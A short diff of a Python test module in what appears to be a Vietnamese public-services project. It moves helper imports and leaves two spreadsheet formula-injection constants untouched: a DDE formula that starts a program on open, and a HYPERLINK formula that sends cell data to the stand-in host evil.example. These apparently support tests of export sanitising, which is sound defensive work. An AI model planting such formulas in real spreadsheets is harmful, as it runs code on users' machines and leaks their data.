@@ -23,8 +23,8 @@ from motcua.directives import services as directive_services
 from motcua.geography.models import Agency
 from motcua.monitoring import services as monitoring
 from motcua.payments.models import ReviewItem
-from tests.dossiers.conftest import WARD_B, client_for, committee, file_dossier
-from tests.payments.conftest import approved_account
+from tests.builders.dossiers import WARD_B, client_for, committee, file_dossier
+from tests.builders.payments import approved_account
 
 DDE = "=cmd|' /C calc'!A0"  # the classic: starts a program when the file is opened
 LEAK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'
